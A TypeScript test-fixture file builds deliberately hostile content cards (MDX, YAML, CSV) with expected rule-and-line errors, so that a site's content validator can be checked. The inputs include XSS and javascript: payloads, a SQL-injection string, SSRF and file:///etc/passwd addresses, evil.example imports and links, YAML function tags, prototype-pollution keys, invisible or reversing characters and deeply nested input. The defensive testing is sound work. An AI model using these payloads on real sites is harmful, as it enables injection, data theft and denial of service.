/**
 * Files that somebody sends who wishes the site no good, or that a strange program has saved: each is refused for its own
 * reason at its own line, beside all the others in one folder, or is accepted.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { RuleCode } from '../../src/model/issue.ts';

export interface Hostile {
  /** Latin: the name of the card. */
  name: string;
  /** Inside the content folder. */
  path: string;
  bytes: Buffer;
  /** `rule:line` of every error; none: accepted. */
  errors: string[];
}

const HEAD = [
  '---',
  'title: Липы ёё',
  'summary: Соседи посадили липы и поставили скамейки.',
  'kind: tos',
  'region: testovaya-oblast',
  'status: done',
  'directions: [housing-improvement]',
  'results:',
  '  - label: Во дворе растут липы',
  '    source: vesti',
  'sources:',
  '  - id: vesti',
  '    url: https://example.ru/ёё',
  '    publisher: Газета «Тестовые вести»',
  'checked: 2026-11-23',
];
const STORY = [
  '---',
  '',
  '## Проблема',
  '',
  'Во дворе было пусто.',
  '',
  '## Что сделали',
  '',
  '1. Посадили липы<Source id="vesti" />.',
];

/** The line that the entry changes says what is wrong; `+2` is two lines below it. */
type Reason = RuleCode | `${RuleCode}+${number}`;

function hostile(
  name: string,
  lines: readonly string[],
  changed: number,
  reasons: readonly Reason[],
): Hostile {
  return {
    name,
    path: `practices/${name}/index.mdx`,
    bytes: Buffer.from(`${lines.join('\n').replaceAll('ёё', name)}\n`),
    errors: reasons.map((reason) => {
      const [rule, below = '0'] = reason.split('+');
      return `${rule}:${changed + 1 + Number(below)}`;
    }),
  };
}

/** A card with this instead of the line of a field. */
function inHead(field: string, line: string) {
  return (name: string, ...reasons: Reason[]): Hostile => {
    const at = HEAD.findIndex((each) => each.trim().startsWith(`${field}:`));
    return hostile(name, [...HEAD.with(at, line), ...STORY], at, reasons);
  };
}

/** A card with these lines above the days of its head. */
function moreHead(line: string) {
  return (name: string, ...reasons: Reason[]): Hostile =>
    hostile(name, [...HEAD.slice(0, -1), line, ...HEAD.slice(-1), ...STORY], HEAD.length - 1, reasons);
}

/** A card with this block in its story. */
function inStory(block: string) {
  return (name: string, ...reasons: Reason[]): Hostile =>
    hostile(name, [...HEAD, ...STORY.slice(0, 5), '', block, ...STORY.slice(5)], HEAD.length + 6, reasons);
}

const inTitle = (words: string) => inHead('title', `title: Липы ёё ${words}`);
const source = (url: string) => inHead('url', `    url: ${url}`);

type Make = (name: string, ...reasons: Reason[]) => Hostile;

/** Cards whose lines are changed at one place, all against one rule. */
function all(rule: Reason, cases: Record<string, Make>): Hostile[] {
  return Object.entries(cases).map(([name, make]) => make(name, rule));
}

const each = (make: (what: string) => Make, cases: Record<string, string>): Record<string, Make> =>
  Object.fromEntries(Object.entries(cases).map(([name, what]) => [name, make(what)]));

/** Of the same kind, each in words of its own, so that they look alike in no review. */
const UNSEEN = {
  null: '\0',
  bell: '\u0007',
  backspace: '\b',
  'vertical-tab': '\v',
  'form-feed': '\f',
  escape: '\u001b[2J',
  delete: '\u007f',
  'next-line': '\u0085',
  'upper-control': '\u009b',
  'soft-hyphen': '\u00ad',
  'grapheme-joiner': '\u034f',
  'arabic-mark': '\u061c',
  'hangul-filler': '\u115f',
  'mongolian-vowel': '\u180e',
  'zero-width': '\u200b',
  'left-to-right': '\u200e',
  'line-separator': '\u2028',
  'paragraph-separator': '\u2029',
  'turned-around': '\u202e',
  'word-joiner': '\u2060',
  isolate: '\u2066',
  'wide-filler': '\u3164',
  'lost-mark': '\ufeff',
  'half-filler': '\uffa0',
  'lost-letter': '\ufffd',
  'no-character': '\ufffe',
  'private-use': '\ue000',
  'private-plane': '\u{f0000}',
  'tag-letter': '\u{e0041}',
  'musical-mark': '\u{1d173}',
  accents: 'а\u0301\u0301\u0301\u0301\u0301',
  'wide-digit': '１',
  'arabic-digit': '١',
  'mathematical-digit': '𝟏',
};

/** Words that are only words, whatever language a program takes them for. */
export const HOSTILE_WORDS = {
  element: '<x-fuzz onload="а">',
  quote: '"><x-fuzz>',
  handler: '" onload="x-fuzz',
  apostrophe: "'><x-fuzz a='",
  'end-of-script': '</script><x-fuzz>',
  'end-of-title': '</title></style></textarea><x-fuzz>',
  comment: '<!--<x-fuzz>',
  'end-of-comment': '--><x-fuzz>',
  'end-of-cdata': ']]><x-fuzz>',
  cdata: '<![CDATA[<x-fuzz>',
  entity: '&lt;x-fuzz&gt;',
  'entity-twice': '&amp;lt;x-fuzz&amp;gt;',
  'end-of-braces': '}}, x-fuzz={а',
  command: '\\input{x-fuzz} \\write{а}',
  percent: '%x-fuzz %s%n',
  template: '${x-fuzz} {{x-fuzz}} <%= x-fuzz %>',
  runner: '::error::а ##[error]а',
  record: 'TY  - x-fuzz',
  calendar: 'END:VEVENT',
  prototype: '__proto__ constructor',
  scheme: 'javascript:x-fuzz',
  statement: "'; DROP TABLE x-fuzz; --",
  path: '../../x-fuzz',
  backslashes: '\\" \\\\ \\n',
};

const quoted = (words: string) => `'${words.replaceAll("'", "''")}'`;

/** In the front matter, as YAML can also write it. */
const ESCAPED = {
  'escaped-null': '\\0',
  'escaped-escape': '\\e[2J',
  'escaped-turned': '\\u202e',
  'escaped-zero-width': '\\u200b',
  'escaped-separator': '\\u2028',
  'escaped-surrogate': '\\uD800',
  'escaped-private': '\\uE000',
  'escaped-tag': '\\U000E0041',
};

/** In a text, as Markdown can also write it. */
const REFERENCES = {
  'reference-turned': '&#x202e;',
  'reference-zero-width': '&ZeroWidthSpace;',
  'reference-joiner': '&zwj;',
  'reference-soft-hyphen': '&shy;',
  'reference-control': '&#x1b;',
  'reference-null': '&#0;',
  'reference-private': '&#xE000;',
};

const NO_NUMBERS = {
  'number-hexadecimal': '0x10',
  'number-octal': '0o17',
  'number-exponent': '1e5',
  'number-underscores': '1_000',
  'number-endless': '.inf',
  'number-none': '.nan',
  'number-huge': '1e308',
  'number-negative': '-1',
  'number-three-places': '65000.125',
  'number-tiny': '0.0000001',
  'number-of-yes': 'true',
};

const NO_ADDRESSES = {
  'url-script': 'javascript:alert(1)',
  'url-script-capitals': 'JaVaScRiPt:alert(1)',
  'url-data': 'data:text/html,а',
  'url-file': 'file:///etc/passwd',
  'url-ftp': 'ftp://example.ru/a',
  'url-no-scheme': '//example.ru/a',
  'url-no-host': 'https://',
  'url-half-address': "'http://[::1'",
  'url-space': 'https://example.ru/a b',
  'url-look-alike': 'https://exаmple.ru/a',
  'url-own-machine': 'http://localhost:8080/',
  'url-own-number': 'http://127.0.0.1/',
  'url-whole-number': 'http://2130706433/',
  'url-own-wide': "'http://[::1]/'",
  'url-of-cloud': 'http://169.254.169.254/latest/',
  'url-home-network': 'http://192.168.0.1/',
  'url-one-word': 'http://router/',
  'url-password': 'https://user:secret@example.ru/',
  'url-other-host': 'https://gosuslugi.ru@evil.example/',
  'url-markup': `'https://example.ru/"><script>'`,
  'url-long': `https://example.ru/${'a'.repeat(3_000)}`,
};

const NO_LINKS = {
  'link-script': 'javascript:alert(1)',
  'link-script-capitals': 'JaVaScRiPt:alert(1)',
  'link-script-reference': 'javascript&colon;alert(1)',
  'link-data': 'data:text/html,<b>а</b>',
  'link-vbscript': 'vbscript:а',
  'link-file': 'file:///etc/passwd',
  'link-other-host': '//evil.example/',
  'link-hidden-host': '/&Tab;/evil.example/',
  'link-back-slashes': '/\\\\evil.example',
  'link-own-machine': 'http://127.0.0.1:22/',
  'link-password': 'https://gosuslugi.ru@evil.example/',
  'link-phone-code': 'tel:*101%23',
  'link-relative': '../../secret',
  'link-word': 'secret',
};

const CODE: Record<string, [block: string, ...reasons: Reason[]]> = {
  'code-import': ["import fs from 'node:fs'", 'no-code'],
  'code-export': ['export const a = process.exit()', 'no-code'],
  'code-export-default': ['export default function Layout() {}', 'no-code'],
  'code-import-import': ["import 'https://evil.example/a.js'", 'no-code'],
  'expression-block': ['{process.exit()}', 'no-expression'],
  'expression-inline': ['Двор {process.env.HOME} пуст.', 'no-expression'],
  'expression-after-comment': ['{/* а */ process.exit() /* б */}', 'no-expression'],
  'expression-regular': ['{/а+/.test("а")}', 'no-expression'],
  'expression-template': ['{`${process.env.HOME}`}', 'no-expression'],
  'expression-markup': ['{<script>alert(1)</script>}', 'no-expression'],
  'expression-attribute': ['<Note title={process.env.HOME}>\n\nДвор.\n\n</Note>', 'no-expression'],
  'expression-in-link': ['[двор]({process.env.HOME})', 'link'],
  'spread-props': ['<Note {...process.env}>\n\nДвор.\n\n</Note>', 'no-spread'],
  'spread-inline': ['Двор <sup {...а}>а</sup> пуст.', 'no-spread'],
};

const ELEMENTS: Record<string, [block: string, ...reasons: Reason[]]> = {
  script: ['<script>alert()</script>', 'component'],
  'script-block': ['<script>\n\nalert()\n\n</script>', 'component'],
  style: ['<style>\n\nbody\n\n</style>', 'component'],
  iframe: ['<iframe src="https://evil.example" />', 'component'],
  object: ['<object data="а" />', 'component'],
  embed: ['<embed src="а" />', 'component'],
  svg: ['<svg onload="alert(1)" />', 'component'],
  math: ['<math />', 'component'],
  picture: ['<img src="x" onerror="alert(1)" />', 'component'],
  anchor: ['<a href="javascript:alert(1)">двор</a>', 'component'],
  form: ['<form action="https://evil.example">\n\nдвор\n\n</form>', 'component'],
  button: ['<button formaction="а">двор</button>', 'component'],
  base: ['<base href="https://evil.example/" />', 'component'],
  meta: ['<meta http-equiv="refresh" content="0" />', 'component'],
  'link-element': ['<link rel="stylesheet" href="а" />', 'component'],
  template: ['<template>двор</template>', 'component'],
  slot: ['<slot />', 'component'],
  'custom-element': ['<paper-form />', 'component'],
  'astro-island': ['<astro-island component-url="а" />', 'component'],
  fragment: ['<>двор</>', 'component'],
  'fragment-named': ['<Fragment set:html="<b>" />', 'component'],
  member: ['<constructor.constructor />', 'component'],
  'object-method': ['<constructor />', 'component'],
  'object-prototype': ['<__proto__ />', 'component'],
  'object-text': ['<toString />', 'component'],
  'of-others': ['<Clause number="1.1" verb="сажать">сажать</Clause>', 'component'],
  'declared-document': ['<!DOCTYPE html>', 'syntax'],
  'processing-instruction': ['<?php echo 1 ?>', 'syntax'],
  'comment-element': ['<!-- двор -->', 'syntax'],
  'element-open': ['<Note>\n\nДвор.', 'syntax'],
  'element-close': ['</Note>', 'syntax'],
  'element-crossed': ['<Note><Quote author="Сосед"></Note></Quote>', 'syntax'],
  'image-tracking': ['![](https://evil.example/a.gif)', 'image'],
  'image-reference': ['![двор][фото]\n\n[фото]: https://example.ru/a.gif', 'image', 'shown+2'],
};

const ATTRIBUTES: Record<string, [block: string, ...reasons: Reason[]]> = {
  'attribute-handler': ['<Note onclick="alert(1)">\n\nДвор.\n\n</Note>', 'component-attributes'],
  'attribute-style': ['<Note style="position: fixed">\n\nДвор.\n\n</Note>', 'component-attributes'],
  'attribute-directive': ['<Note set:html="<b>двор</b>">\n\nДвор.\n\n</Note>', 'component-attributes'],
  'attribute-client': ['<Note client:load="">\n\nДвор.\n\n</Note>', 'component-attributes'],
  'attribute-prototype': ['<Note __proto__="а">\n\nДвор.\n\n</Note>', 'component-attributes'],
  'attribute-long': [`<Note title="${'двор '.repeat(40)}">\n\nДвор.\n\n</Note>`, 'component-attributes'],
  'attribute-of-html': ['Двор<sup onclick="alert(1)">а</sup> пуст.', 'html'],
  'attribute-class': ['Двор <kbd class="а">а</kbd> пуст.', 'html'],
  'photo-elsewhere': [
    '<Photo src="../testovo-prud/prud.png" alt="Двор" author="Сосед" licence="CC BY 4.0" />',
    'component-attributes',
  ],
  'photo-remote': [
    '<Photo src="https://evil.example/a.png" alt="Двор" author="Сосед" licence="CC BY 4.0" />',
    'component-attributes',
  ],
  'photo-drawing': [
    '<Photo src="./a.svg" alt="Двор" author="Сосед" licence="CC BY 4.0" />',
    'component-attributes',
  ],
  'photo-system': [
    '<Photo src="/etc/passwd" alt="Двор" author="Сосед" licence="CC BY 4.0" />',
    'component-attributes',
  ],
  'photo-missing': ['<Photo src="./net.png" alt="Двор" author="Сосед" licence="CC BY 4.0" />', 'file'],
};

/** What would be slow, or would end the process, if it were read at all. */
const TOO_MUCH: Record<string, [block: string, ...reasons: Reason[]]> = {
  'deep-quotation': [`${'> '.repeat(3_000)}двор`, 'depth'],
  'deep-list': [`${'- '.repeat(3_000)}двор`, 'depth'],
  'deep-component': [`${'<Note>\n\n'.repeat(300)}двор${'\n\n</Note>'.repeat(300)}`, 'depth+48'],
  'deep-brackets': [`{${'['.repeat(5_000)}}`, 'no-code'],
  'deep-braces': [`${'{'.repeat(5_000)}`, 'no-code'],
  'long-line': ['двор '.repeat(2_001), 'size'],
  'long-word': ['д'.repeat(10_001), 'size'],
  'long-comment': [`{/* ${'а'.repeat(10_001)} */}`, 'size'],
  'many-parts': [`${'*а* '.repeat(1_500)}\n`.repeat(5), 'size+3'],
  'wide-table': [`|${' а |'.repeat(200)}\n|${' - |'.repeat(200)}\n${'| а |\n'.repeat(60)}`, 'size'],
};

const NO_SOURCE: Record<string, [block: string, ...reasons: Reason[]]> = {
  'number-in-paragraph': ['Собрали 65 тысяч рублей.', 'number-source'],
  'number-in-list': ['- Собрали 65 тысяч рублей.', 'number-source'],
  'number-in-cell': ['| Что | Сколько |\n| --- | --- |\n| липы | 12 |', 'number-source+2'],
  'number-in-quotation': ['> Собрали 65 тысяч рублей.', 'number-source'],
  'number-in-heading': ['### Собрали 65 тысяч рублей', 'number-source'],
  'number-in-title-of-note': ['<Note title="65 тысяч рублей">\n\nСобрали.\n\n</Note>', 'number-source'],
  'number-explained': ['Собрали <abbr title="65 тысяч рублей">деньги</abbr>.', 'number-source'],
  'number-in-note': ['<Note>\n\nСобрали 65 тысяч рублей.\n\n</Note>', 'number-source+2'],
};

const YAML: Record<string, [line: string, ...reasons: Reason[]]> = {
  'yaml-alias': ['related: *а', 'yaml'],
  'yaml-unknown-tag': ['settlement: !evil Липки', 'yaml'],
  'yaml-function': ['settlement: !!js/function "а"', 'yaml'],
  'yaml-binary': ['settlement: !!binary 0LA=', 'yaml'],
  'yaml-end-of-document': ['...', 'yaml+1', 'shown+1'],
  'yaml-duplicate': ['region: primernyy-kray', 'yaml'],
  'yaml-tab': ['\tsettlement: Липки', 'yaml'],
  'yaml-deep-flow': [`related: ${'['.repeat(5_000)}`, 'yaml'],
  'yaml-deep-list': [`related:${' -'.repeat(3_000)} а`, 'yaml'],
  'yaml-open-quote': ["settlement: 'Липки", 'yaml'],
  'yaml-anchor': ['settlement: &а Липки', 'yaml'],
  'yaml-merge': ['<<: { region: primernyy-kray }', 'schema'],
  'key-unknown': ['layout: ../../../src/layouts/Base.astro', 'schema'],
  'key-prototype': ['__proto__: { а: б }', 'schema'],
  'key-constructor': ['constructor: а', 'schema'],
  'key-method': ['toString: а', 'schema'],
  'day-no-such': ['end: 2024-02-31', 'schema'],
  'day-month': ['end: 2024-13', 'schema'],
  'day-before-time': ['end: 0000-01-01', 'schema'],
  'day-long-ago': ['end: 1024-01-01', 'schema'],
  'day-other-order': ['end: 23.11.2026', 'schema'],
  'day-with-time': ['end: 2024-05-17T10:00:00Z', 'schema'],
  'day-not-yet': ['end: 2099-01-01', 'dates'],
  'place-unknown': ['municipality: ../../secret', 'reference'],
  'place-of-object': ['municipality: constructor', 'reference'],
  'place-prototype': ['municipality: __proto__', 'reference'],
  'repeats-itself': ['adaptedFrom: repeats-itself', 'reference'],
  'related-to-itself': ['related: [related-to-itself]', 'reference'],
  'text-as-list': ['settlement: [Липки]', 'schema'],
  'text-as-map': ['settlement: { а: б }', 'schema'],
  'text-empty': ["settlement: ''", 'schema'],
  'text-of-spaces': ["settlement: '   '", 'schema'],
  'text-long': [`settlement: ${'Липки '.repeat(100)}`, 'schema'],
};

const cards = (make: (what: string) => Make, cases: Record<string, [string, ...Reason[]]>): Hostile[] =>
  Object.entries(cases).map(([name, [what, ...reasons]]) => make(what)(name, ...reasons));

const participants = (number: string) =>
  inHead('results', `participants: { value: ${number}, label: жители, source: vesti }\nresults:`);

const CARDS: readonly Hostile[] = [
  ...all('characters', each(inTitle, UNSEEN)),
  ...all(
    'characters',
    each((what) => inHead('title', `title: "Липы ёё ${what}"`), ESCAPED),
  ),
  ...all(
    'characters',
    each((what) => inStory(`Двор ${what} пуст.`), REFERENCES),
  ),
  ...all('characters', {
    'story-null': inStory('Двор\0 пуст.'),
    'story-turned': inStory('Двор \u202eпуст\u202c.'),
    'story-separator': inStory('Двор\u2028пуст.'),
    'attribute-turned': inStory('<Note title="Двор\u202e">\n\nДвор пуст.\n\n</Note>'),
    'publisher-escape': inHead('publisher', '    publisher: Газета\u001b[31m'),
  }),
  ...all('letters', {
    'look-alike-title': inTitle('вepнул'),
    'look-alike-story': inStory('Сoседи посадили липы.'),
    'look-alike-heading': inStory('### Сoседи'),
    'look-alike-latin': inTitle('ruрaskha'),
  }),
  ...all('number-source', {
    'number-in-title': inTitle('за 65 тысяч рублей'),
    'number-in-summary': inHead('summary', 'summary: Соседи собрали 65 тысяч рублей.'),
  }),
  ...all('schema', each(participants, NO_NUMBERS)),
  ...all('schema', each(source, NO_ADDRESSES)),
  ...all(
    'link',
    each((url) => inStory(`Смотрите [двор](${url}).`), NO_LINKS),
  ),
  ...all('link+2', { 'link-definition': inStory('Смотрите [двор][а].\n\n[а]: javascript:alert(1)') }),
  ...cards(inStory, { ...CODE, ...ELEMENTS, ...ATTRIBUTES, ...TOO_MUCH, ...NO_SOURCE }),
  ...cards(moreHead, YAML),
  ...Object.entries(HOSTILE_WORDS).map(([name, what]) =>
    inHead('publisher', `    publisher: ${quoted(what)}`)(`words-${name}`),
  ),
];

const valid = hostile('ёё', [...HEAD, ...STORY], 0, []).bytes.toString();

/** A file as it is: `rule:line` of what is wrong in it. A digit in its title would want a source. */
const file = (path: string, text: string | Buffer, ...errors: string[]): Hostile => {
  const name = path.replace(/\W+/g, '-').replace(/\d/g, (digit) => 'abcdefghij'[Number(digit)] ?? '');
  const bytes = typeof text === 'string' ? Buffer.from(text.replaceAll('ёё', name)) : text;
  return { name, path, bytes, errors };
};

const card = (folder: string, text: string | Buffer, ...errors: string[]) =>
  file(`practices/${folder}/index.mdx`, text, ...errors);

/** Names, endings and bytes that a repository can hold. */
const FILES: readonly Hostile[] = [
  ...['con', 'nul', 'aux', 'com1', 'prn'].map((folder) => card(folder, valid, 'name:1')),
  ...['Upper', 'двор', '-hyphen', 'two--hyphens', 'under_score', 'with space'].map((folder) =>
    card(folder, valid, 'name:1'),
  ),
  ...['table', '2'].map((folder) => card(folder, valid, 'taken-name:1')),
  card('file-empty', '', 'front-matter:1'),
  card('file-of-spaces', ' \n \n', 'front-matter:1'),
  card('file-of-nulls', '\0'.repeat(400), 'characters:1', 'front-matter:1'),
  card('file-no-head', '## Проблема\n\nДвор пуст.\n', 'front-matter:1'),
  card('file-open-head', valid.replace(/\n---\n(?=\n)/, '\n'), 'front-matter:17'),
  card('file-old-lines', valid.replaceAll('\n', '\r'), 'unread:1'),
  card('file-wide', Buffer.from(`\uFEFF${valid.replaceAll('ёё', 'wide')}`, 'utf16le'), 'characters:1'),
  card('file-broken', Buffer.concat([Buffer.from(valid), Buffer.from([0xd0, 0xff, 0x0a])]), 'characters:25'),
  card('file-huge', `${valid}\n${'Соседи посадили липы.\n\n'.repeat(6_000)}`, 'size:1'),
  card('file-other-program', '<!DOCTYPE html><html><body>Двор</body></html>', 'front-matter:1'),
  file('practices/script-beside/evil.mjs', 'process.exit()\n', 'orphan:1'),
  file('practices/page-beside/index.html', '<script>alert(1)</script>\n', 'orphan:1'),
  file('practices/program-beside/index.mdx.exe', 'MZ', 'orphan:1'),
  file('pages/layout.astro', '---\n---\n', 'orphan:1'),
  file('taxonomy/themes/no-list.yaml', 'themes: а\n', 'schema:1'),
  file('taxonomy/themes/word.yaml', 'двор\n', 'schema:1'),
  file('taxonomy/themes/of-words.yaml', '- двор\n', 'schema:1'),
  file('taxonomy/themes/open.yaml', '- id: [\n', 'yaml:1'),
  file('taxonomy/themes/deep.yaml', `- id: ${'- '.repeat(3_000)}x\n`, 'yaml:1'),
  file('taxonomy/themes/markup.yaml', '- id: <b>\n  name: Двор\n  meaning: Двор.\n', 'schema:1'),
  file(
    'taxonomy/contests/no-sources.yaml',
    '- id: premiya\n  name: Премия\n  level: national\n  meaning: Премия выдумана.\n  source: vesti\n',
    'reference:5',
  ),
  file('taxonomy/facts/of-nobody.yaml', '- id: fakt\n  topic: count\n  text: Двор.\n', 'schema:1'),
  file('registers/no-columns.csv', 'а;б\n1;2\n', 'table:1'),
  file('registers/open-quote.csv', 'Название;Регион\n"Двор;Тестовая область\n', 'table:1', 'table:2'),
  file('papers/no-paper.yaml', '[]\n', 'schema:1'),
];

export const HOSTILE: readonly Hostile[] = [...CARDS, ...FILES];

/** The fixtures hold the rest of the content: these files are put beside it. */
export function writeHostile(contentDir: string): void {
  for (const { path, bytes } of HOSTILE) {
    const file = join(contentDir, path);
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, bytes);
  }
}
